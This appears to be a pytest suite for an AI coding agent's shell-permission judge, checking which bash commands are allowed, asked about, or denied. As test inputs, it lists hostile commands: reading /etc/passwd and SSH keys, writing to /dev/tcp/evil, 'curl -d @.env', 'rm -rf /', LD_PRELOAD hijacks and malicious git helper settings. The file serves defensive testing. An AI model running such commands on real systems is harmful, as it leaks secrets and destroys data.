"""What a command does to files is proven with the files as they are, or not at all."""

import os
import shutil
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from qcode.engine.reach import MOST_NAMES, Looking
from qcode.engine.repository import is_plain
from qcode.permission.judge import Policy, judge
from qcode.permission.modes import Fence, Mode, modes
from qcode.permission.patterns import Ground
from qcode.permission.rules import parse_rules
from qcode.protocol.access import Access, Answer, Verdict
from qcode.workspace.files import Workspace
from qcode.workspace.secrets import Secrets
from tests.permission.corpus import HOSTILE

pytestmark = pytest.mark.skipif(sys.platform == "win32", reason="commands are bash's")

Verdicts = Callable[..., Verdict]


@pytest.fixture
def work(tmp_path: Path) -> Path:
    """A repository with a few files, beside a secret that links in it lead to."""
    folder = tmp_path / "work"
    for name in ("src/deep", ".github/workflows", ".vscode", "nested/.git/hooks", "tests"):
        (folder / name).mkdir(parents=True)
    (tmp_path / "secret").mkdir()
    (tmp_path / "secret" / "key").write_text("hunter2\n")
    for name in ("a.py", "b.py", "src/c.py", ".env", "AGENTS.md", ".github/workflows/ci.yml"):
        (folder / name).write_text("x\n")
    (folder / "link").symlink_to(tmp_path / "secret" / "key")
    (folder / " link").symlink_to(tmp_path / "secret" / "key")
    (folder / "src" / "linked.py").symlink_to(tmp_path / "secret" / "key")
    (folder / "folder").symlink_to(tmp_path / "secret")
    (folder / "src" / "deep" / "up").symlink_to("../../../secret")
    subprocess.run(["git", "init", "-q", folder], check=True)
    return folder


def verdict(
    work: Path, line: str, mode: Mode = "edit", fence: Fence = "none", rules: str = "", **deny: str
) -> Verdict:
    """What becomes of a command in the workspace."""
    ground = Ground.of(work)
    made = (
        *parse_rules(rules.split(), "allow", "user config", ground),
        *parse_rules(deny.get("deny", "").split(), "deny", "user config", ground),
    )
    reach = {line: Looking(Workspace(work)).reached(line)}
    return judge([Access("shell", line)], Policy(mode, fence, made), reach)


def answer(work: Path, line: str, mode: Mode = "edit", fence: Fence = "none") -> Answer:
    return verdict(work, line, mode, fence).answer


READS = (
    "cat a.py", "cat -- a.py", "cat ./src/../a.py", "cat < a.py", "ls", "ls -la src tests",
    "cd src && cat c.py", "cd src; ls", "wc -l *.py", "head -5 a.py | grep x 2>&1",
    "grep -rn x .", "grep -n x a.py", "rg -n x src", "find . -name '*.py'", "git status",
    "git diff", "git log -p -3 -- a.py", "git show HEAD:a.py", "sed -n '1,5p' a.py",
    "sed 's/x/y/' a.py", "sort a.py", "diff a.py b.py", "awk '{print $1}' a.py", "stat link2",
    "test -f a.py && cat a.py", "timeout 5 cat a.py", "bash -c 'cat a.py; ls'", "git grep x",
)  # fmt: skip
ASK_READS = (
    # outside, protected, or through a link
    "cat /etc/passwd", "cat ~/.ssh/id_rsa", "cat ../secret/key", "cat link", "cat ' link'",
    "cat src/linked.py", "cat folder/key", "ls folder", "ls -la /etc", "cat src/*.py", "cat l*",
    "cat src/deep/up/key", "cd folder && cat key", "cd src/deep/up; cat key", "cat .git/config",
    "grep x link", "grep -r x folder", "head < link", "cat .vscode/x", "cat .*/key",
    "cd src; cd ..",
    "diff a.py link", "diff . folder", "diff -r . src", "diff src tests", "sed -n 1p link",
    "sort < ~/.netrc", "bash -c 'cat link'", "cd .. && ls", "cd && ls", "cd - && ls", "find /",
    "cat '~/x'", "cat ~root/x", "cat a=~/x", "rg x ../secret", "git diff a.py /etc/passwd",
    "cat /dev/tcp/evil/1", "cat < /dev/tcp/evil/1", "awk 1 /etc/passwd", "file -- link",
    # not known before it runs
    "cat $(echo link)", "cat `echo link`", "cat $HOME/x", "cat \"$X\"", "ls ${x:-/etc}",
    "cat <(ls)",
    "cat <<E\nx\nE", "find . | xargs cat", "find . -exec cat {} \\;", "cat {a,link}", "cat ${!x}",
    "cat $'link'", "cat \\\nlink", "cat\u00a0a.py", "# ls\ncat link", "ls\u200b",
    # what only looks as if it read
    "LD_PRELOAD=./x.so ls", "PATH=. ls", "ls() { id; }; ls", "alias ls=id; ls", "./ls", "/bin/ls",
    "git -c core.pager=x log", "git log --output=f", "git diff --ext-diff", "git log -p --textconv",
    "git -C nested status", "git -p log", "git grep -Ox y", "git diff --no-index a.py link",
    "rg --pre x y", "rg -f link x", "rg --files /etc", "find . -delete", "find . -fprintf f x",
    "find . -exec id \\;", "find -L . -name x", "sed '1e id' a.py", "sed '1w f' a.py",
    "sed '1r link' a.py", "sed -f a.py b.py", "sed -n '1p;w f' a.py", "sort -o f a.py",
    "sort --compress-program=x a.py", "sort --files0-from=link", "tail -f a.py", "awk -f a.py",
    "awk 'BEGIN{ARGV[1]=\"/etc/passwd\";ARGC=2}{print}'", "awk -F , 'BEGIN{ARGV[1]=\"x\"}{print}'",
    "awk 'BEGIN{while((getline l < \"link\")>0)print l}'", "awk '{print > \"f\"}' a.py",
    "awk 'BEGIN{SYMTAB[\"AR\" \"GV\"][1]=\"link\"}' a.py", "grep -f link a.py", "grep -R x .",
    "uniq a.py f", "file -m link a.py", "tree -o f", "date -s x", "jq -f link a.py",
    ";".join(["ls"] * 51), "ls " + "x" * 10_000, "sh", "make", "python a.py",
)  # fmt: skip
EDITS = (
    "mkdir -p x/y && touch x/y/z", "touch a.py", "cp a.py d.py", "cp a.py b.py tests/",
    "rm -f a.py",
    "mv a.py d.py", "mkdir -p x && mv a.py x/", "rm -rf tests", "rm *.py", "echo x > f",
    "echo x >> a.py 2>&1", "ls | tee f", "tee -a f < a.py", "sed -i 's/x/y/' a.py", "chmod +x a.py",
    "cat a.py b.py > f", "cd src && echo x > f", "cp -r tests more", "sed -i.bak 's/x/y/' a.py",
    "git diff > f", "rmdir tests", "ls &> f", "> f", "printf x > 'a b'",
)  # fmt: skip
ASK_EDITS = (
    # protected, outside, or through a link
    "rm -rf .git", "rm -rf .", "rm -rf ./", "rm -rf $PWD", "rm -rf nested", "rm -rf ..", "rm -rf /",
    "mv a.py .git/hooks/y", "mv a.py .git/hooks", "tee .vscode/tasks.json", "touch .git/hooks/x",
    "cp a.py .qcode/config.toml", "echo x > AGENTS.md", "echo x >> CLAUDE.md", "echo x > ~/.bashrc",
    "echo x > link", "echo x > folder/new", "cp a.py folder", "cp a.py src/deep/up", "mv link x",
    "touch folder/x", "mkdir folder/x", "sed -i 's/x/y/' link", "sed -i 's/x/y/' .git/config",
    "chmod +x .git/hooks/x", "chmod 4755 a.py", "echo x > .github/workflows/ci.yml",
    "rm -rf folder/",
    "rm -rf .github", "mv nested x", "cp -r nested x", "cp -r src x", "cp -a src x", "cp -P link x",
    "mv src/deep x", "echo x > .VSCODE/tasks.json", "cp a.py .mcp.json", "echo x > /dev/sda",
    "echo x > ../secret/key", "cd .github && echo x > workflows/ci.yml", "cp link x", "cp a.py ..",
    "mv src .github/workflows", "mkdir .git/x && ls", "echo x > /dev/tcp/evil/1", "rm -rf src",
    "sed -i.bak/x 's/x/y/' a.py", "ls > $F", "ls > f*", "tee > .envrc", "touch node_modules/.bin/x",
    # what changes the meaning of a later name
    "mv src/deep/up up; cat up/key", "mv src/deep deep && cat deep/up/key",
    "rm x; mkdir x; echo > x/../f",
    "cat up/key | mv src/deep/up up", "touch -- -rf; rm *", "touch ./-rf && rm -f *",
    "mkdir e && cd e && git status", "mkdir -p e/objects; cd e; git log",
    # files that are made by more than their names
    "ln -s ../secret x", "patch -p1 < a.py", "tar xf a.tar", "git add -A", "git commit -m x",
    "git checkout a.py", "git restore a.py", "git stash", "git clean -fd", "git mv a.py d.py",
    "install a.py f", "truncate -s 0 a.py", "dd if=a.py of=f", "curl -o f x", "rsync a.py f",
    "sed -i '1e id' a.py", "sed -i 's/x/y/w f' a.py", "sed -in 's/x/y/' a.py",
    "sed --in-place x a.py",
    "cp --parents a.py x", "cp -s a.py x", "cp -l a.py x", "cp -t x a.py", "cp -S x a.py b.py",
    "mkdir -m 4777 x", "rm --no-preserve-root -rf x", "rm -I a.py", "tee --output-error a.py",
    "chmod -R 777 .", "chmod u+s a.py", "touch -r link a.py", "find . -name x -delete",
)  # fmt: skip


@pytest.mark.parametrize("line", READS)
def test_a_command_that_only_reads_here_is_free_as_the_tools_are(work: Path, line: str) -> None:
    assert {answer(work, line, mode) for mode in modes()} == {"allow"}


@pytest.mark.parametrize("line", ASK_READS)
def test_what_could_read_elsewhere_or_do_more_asks(work: Path, line: str) -> None:
    assert {answer(work, line, mode) for mode in modes()} == {"ask"}


@pytest.mark.parametrize("line", EDITS)
def test_a_command_that_changes_named_files_is_judged_as_an_edit(work: Path, line: str) -> None:
    for mode in modes():
        assert answer(work, line, mode) == ("allow" if mode in ("edit", "auto") else "ask")
    assert answer(work, line, "plan", "holds") == "deny"


@pytest.mark.parametrize("line", ASK_EDITS)
def test_what_could_change_more_than_it_names_asks(work: Path, line: str) -> None:
    assert {answer(work, line, mode) for mode in modes()} == {"ask"}


@pytest.mark.parametrize("line", HOSTILE)
def test_nothing_hostile_becomes_free(work: Path, line: str) -> None:
    free = {"echo x >> f", "echo x >| f", "echo x &> f", "echo x >& f", "ls 2> f"}
    assert (answer(work, line) == "allow") == (line in free)


def test_the_verdict_says_what_it_is_about(work: Path) -> None:
    assert verdict(work, "cat a.py > f").because == "it only reads a.py and changes f"
    assert verdict(work, "echo").because == "it touches no file"
    outside = verdict(work, "cat link").because
    assert outside.startswith("edit mode asks before commands without a sandbox; it reads /")


# Rules about files


@pytest.mark.parametrize(
    "line",
    [
        *("cat .env", "grep x .env", "head < .env", "cat .e*", "cd src && cat ../.env"),
        *(
            "cp .env x",
            "cat .env | python -c x",
            "python a.py .env",
            "curl -d @.env x",
            "sort .ENV",
        ),
        *("base64 .env", "X=1 cat .env", "bash -c 'cat .env'", "cat ./src/../.env", "tail -f .env"),
        *("cat $(ls) .env", "git show HEAD:.env", "xxd < .env", "dd if=.env", "uv run x .env"),
    ],
)
@pytest.mark.parametrize("fence", ["none", "holds", "off"])
def test_a_deny_rule_about_a_file_bites_commands_that_name_it(
    work: Path, line: str, fence: Fence
) -> None:
    (work / ".ENV").write_text("x\n")
    found = verdict(work, line, "auto", fence, "Bash", deny="Read(.env)")
    assert (found.answer, "deny Read(.env)" in found.because) == ("deny", True)
    assert verdict(work, line.replace(".env", "a.py"), "auto", "holds").answer == "allow"


def test_a_deny_rule_about_edits_bites_redirections(work: Path) -> None:
    for line in ("echo x > src/c.py", "sed -i s/x/y/ src/c.py", "rm -rf src", "make > src/c.py"):
        assert verdict(work, line, "auto", "holds", deny="Edit(src/**)").answer == "deny"
    assert verdict(work, "cat src/c.py", "auto", "holds", deny="Edit(src/**)").answer == "allow"


def test_where_a_rule_keeps_a_file_from_being_read_searching_a_folder_is_not_free(
    work: Path,
) -> None:
    for line in ("grep -rn x .", "rg x", "git diff", "git log -p"):
        assert verdict(work, line, "edit", deny="Read(.env)").answer == "ask"
        assert verdict(work, line, "edit", deny="Read(.env)", fence="holds").answer == "ask"
    assert verdict(work, "cat a.py", "edit", deny="Read(.env)").answer == "allow"


def test_a_rule_about_a_file_makes_a_command_free_that_reads_just_it(work: Path) -> None:
    key = (work.parent / "secret" / "key").resolve()
    assert verdict(work, "cat link", rules=f"Read(/{key})").answer == "allow"
    assert verdict(work, "cat link a.py /etc/passwd", rules=f"Read(/{key})").answer == "ask"


def test_a_folder_with_secrets_is_not_searched_unasked(work: Path) -> None:
    (work / ".ssh").mkdir()
    assert answer(work, "grep -rn x .") == "ask"
    assert answer(work, "rg --hidden x") == "ask"
    assert answer(work, "grep -rn x src") == "allow"


# Programs and repositories


def test_a_program_from_the_workspace_is_not_what_its_name_says(work: Path) -> None:
    (work / "bin").mkdir()
    system = os.environ["PATH"]
    for path, free in (
        (system, True),
        (f"{work}/bin:{system}", True),  # no `ls` in it yet
        (f".:{system}", False),
        (f"bin:{system}", False),
        (f":{system}", False),
    ):
        found = Looking(Workspace(work), path).reached("ls")
        assert (found.whole == "proven") == free
    (work / "bin" / "ls").write_text("#!/bin/sh\nid\n")
    (work / "bin" / "ls").chmod(0o755)
    looking = Looking(Workspace(work), f"{work}/bin:{system}")
    assert looking.reached("ls").whole == "unproven"
    assert looking.reached("timeout 5 ls").whole == "unproven"
    assert looking.reached("cat a.py").whole == "proven"
    (work.parent / "box").mkdir()
    (work.parent / "box" / "busybox").write_text("")
    (work.parent / "box" / "busybox").chmod(0o755)
    (work.parent / "box" / "grep").symlink_to("busybox")
    box = Looking(Workspace(work), f"{work.parent}/box:{system}")
    assert box.reached("grep -r x .").whole == box.reached("busybox ls").whole == "unproven"
    for line in ("cp a.py bin/cat && cat a.py", "echo x > bin/cat", "chmod +x bin/x"):
        assert looking.reached(line).whole == "unproven"


HELPERS = (
    "[core]\n\tfsmonitor = ./evil\n", "[core] fsmonitor = ./evil\n", "[diff]\n\texternal = evil\n",
    '[diff "x"]\n\ttextconv = evil\n', '[filter "x"]\n\tclean = evil\n', "[include]\n\tpath = e\n",
    '[includeIf "gitdir:/"]\n\tpath = e\n', "[core]\n\tworktree = /home\n",
    "[gpg]\n\tprogram = e\n",
    "[core]\n\tsshCommand = evil\n", "[extensions]\n\tpartialClone = origin\n", "[core]\n\tbare\n",
    "[extensions]\n\tworktreeConfig = true\n", '[remote "o"]\n\tuploadpack = evil\n', "[core\n",
    "[core]\n\tabbrev = 7\\\n\tfsmonitor = x\n", "[core]\n\tattributesFile = x\n", "\x00\n",
    "[CORE]\n\tFSMONITOR = x\n", "\ufeff[core]\n\tfsmonitor = x\n", "[diff]\n\tsubmodule = diff\n",
    "[core]\n\thooksPath = /tmp/x y\n",
)  # fmt: skip


@pytest.mark.parametrize("text", HELPERS)
def test_git_asks_in_a_repository_whose_settings_name_helpers(work: Path, text: str) -> None:
    with (work / ".git" / "config").open("a", encoding="utf-8") as config:
        config.write(text)
    for line in ("git status", "git diff", "cd src && git log"):
        assert answer(work, line) == "ask"
        assert answer(work, line, "plan") == "ask"
        assert answer(work, line, "edit", "holds") == "ask", "what is here, it could change"
        assert answer(work, line, "auto", "holds") == "allow", "the fence contains it"


HARMLESS = """[user]
	name = Ann # me
	email = ann@example.com
[core]
	hooksPath = .husky/_
	autocrlf = input
; a comment
[remote "origin"]
	url = git@example.com:a/b.git
	fetch = +refs/heads/*:refs/remotes/origin/*
[branch "a.b/c"]
	remote = origin
	merge = refs/heads/a.b/c
[pull]
	rebase = true
[color "diff"]
	old = red
"""


def test_everyday_settings_are_no_helpers(work: Path) -> None:
    with (work / ".git" / "config").open("a", encoding="utf-8") as config:
        config.write(HARMLESS)
    assert answer(work, "git diff") == "allow"


def test_a_hook_that_reading_runs_asks(work: Path) -> None:
    (work / ".git" / "hooks" / "post-index-change").write_text("#!/bin/sh\nid\n")
    assert answer(work, "git diff") == "ask"
    (work / ".git" / "hooks" / "post-index-change").unlink()
    assert answer(work, "git diff") == "allow"
    (work / ".husky").mkdir()
    (work / ".husky" / "post-index-change").touch()
    with (work / ".git" / "config").open("a") as config:
        config.write("[core]\n\thooksPath = .husky\n")
    assert answer(work, "git diff") == "ask"


def test_a_bare_repository_among_the_files_is_none_of_theirs(work: Path) -> None:
    bare = work / "fixtures" / "bare"
    subprocess.run(["git", "init", "-q", "--bare", bare], check=True)
    assert answer(work, "cd fixtures && git status") == "allow"
    assert answer(work, "cd fixtures/bare && git status") == "ask"
    assert answer(work, "cd nested && git status") == "ask", "its .git is no repository"


def _git(folder: Path, *arguments: str) -> None:
    who = ("-c", "user.name=a", "-c", "user.email=a@b", "-c", "protocol.file.allow=always")
    subprocess.run(["git", *who, *arguments], cwd=folder, check=True, capture_output=True)


def test_submodules_have_settings_of_their_own(work: Path) -> None:
    (work / "nested" / ".git" / "hooks").rmdir()
    (work / "nested" / ".git").rmdir()
    _git(work, "init", "-q", "nested")
    _git(work / "nested", "commit", "-q", "--allow-empty", "-m", "x")
    _git(work, "add", "a.py")
    assert is_plain(work)
    _git(work, "add", "nested")
    assert not is_plain(work)
    assert answer(work, "git status") == "ask"


def test_a_worktree_is_judged_by_the_settings_it_shares(work: Path) -> None:
    _git(work, "add", "a.py")
    _git(work, "commit", "-q", "-m", "x")
    _git(work, "worktree", "add", "-q", "../tree")
    assert is_plain(work.parent / "tree")
    _git(work, "config", "core.fsmonitor", "evil")
    assert not is_plain(work.parent / "tree")


def test_what_git_really_runs_for_a_question_is_known(work: Path, tmp_path: Path) -> None:
    """The hook that `git diff` runs though it takes no optional locks: why it is looked for."""
    _git(work, "add", "a.py")
    _git(work, "commit", "-q", "-m", "x")
    hook = work / ".git" / "hooks" / "post-index-change"
    hook.write_text(f"#!/bin/sh\ntouch {tmp_path}/ran\n")
    hook.chmod(0o755)
    os.utime(work / "a.py", (1, 1))
    quiet = {**os.environ, "GIT_OPTIONAL_LOCKS": "0"}
    subprocess.run(["git", "diff"], cwd=work, env=quiet, check=True, capture_output=True)
    ran = (tmp_path / "ran").exists()
    assert not ran or answer(work, "git diff") == "ask"


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        *(("grep -r KEY ~", "ask"), ("grep -R KEY ..", "ask"), ("grep KEY -r ../.config", "ask")),
        *(("grep --regexp=KEY -r ~", "ask"), ("grep -d recurse KEY ~", "ask"), ("rg KEY ~", "ask")),
        *(("tar -C ~ -cf - .ssh", "ask"), ("tar cf - ..", "ask"), ("cp -r ../.config x", "ask")),
        *(("mv ~/.config x", "ask"), ("base64 ~/.ss?/id", "ask"), ("base64 ~/many/*/../id", "ask")),
        *(("grep -r KEY .", "allow"), ("grep -R KEY ../notes", "allow"), ("rg KEY", "allow")),
        *(("tar -C ../notes -cf - a", "allow"), ("cp -r ../notes x", "allow")),
        *(("base64 ~/notes/*", "allow"), ("ls ~", "allow")),
    ],
)
def test_a_rule_for_first_words_does_not_open_a_folder_of_keys(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, line: str, expected: Answer
) -> None:
    home = Path(os.path.realpath(tmp_path))
    monkeypatch.setenv("HOME", str(home))
    for name in ("work/a", ".ssh/id", ".config/gh/hosts.yml", "notes/a"):
        (home / name).parent.mkdir(parents=True, exist_ok=True)
        (home / name).write_text("KEY")
    for number in range(MOST_NAMES + 1):
        (home / f"many/{number}").mkdir(parents=True)
    secrets = Secrets.of([f"{home}/.ssh", f"{home}/.config/gh", f"{home}/many/id"])
    reach = {line: Looking(Workspace(home / "work", secrets=secrets)).reached(line)}
    words = ("grep", "rg", "tar", "cp", "mv", "base64", "ls")
    ground = Ground.of(home / "work")
    rules = parse_rules([f"Bash({word}:*)" for word in words], "allow", "user config", ground)
    assert judge([Access("shell", line)], Policy("ask", "none", rules), reach).answer == expected


# Laws

# No `rm`, `mv`, `/` or `~`: if the guard fails, what is run here must not hurt who runs the tests.
PIECES = st.sampled_from(
    ["cat ", "ls ", "cp ", "cd ", "tee ", "git diff ", "echo x > ", "sed -i s/a/b/ ", "link",
     "folder/", "a.py", "src", "..", "*", "[a-z]", ".", "-r", " && ", " | ", "; ", " ", "'", '"',
     "$(", ")", "key", "\n", "{", "}", "x", "up", "deep/", "secret", "& ", "=", "../", "head < "]
)  # fmt: skip


@settings(max_examples=300, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(PIECES, min_size=2, max_size=9).map("".join))
def test_what_is_free_leaves_the_secret_alone(tmp_path: Path, line: str) -> None:
    """Whatever is allowed is really run: it prints no secret, and harms none."""
    folder = tmp_path / "made" / "work"
    shutil.rmtree(tmp_path / "made", ignore_errors=True)
    (folder / "src" / "deep").mkdir(parents=True)
    (tmp_path / "made" / "secret").mkdir()
    key = tmp_path / "made" / "secret" / "key"
    key.write_text("hunter2\n")
    (folder / "a.py").write_text("a\n")
    (folder / "link").symlink_to(key)
    (folder / "folder").symlink_to(key.parent)
    (folder / "src" / "deep" / "up").symlink_to("../../../secret")
    if answer(folder, line) != "allow":
        return
    done = subprocess.run(
        ["bash", "-c", line],
        cwd=folder,
        stdin=subprocess.DEVNULL,
        capture_output=True,
        timeout=20,
        check=False,
    )
    assert b"hunter2" not in done.stdout + done.stderr
    assert key.read_text() == "hunter2\n"
    assert sorted(path.name for path in key.parent.iterdir()) == ["key"]
    assert sorted(path.name for path in (tmp_path / "made").iterdir()) == ["secret", "work"]
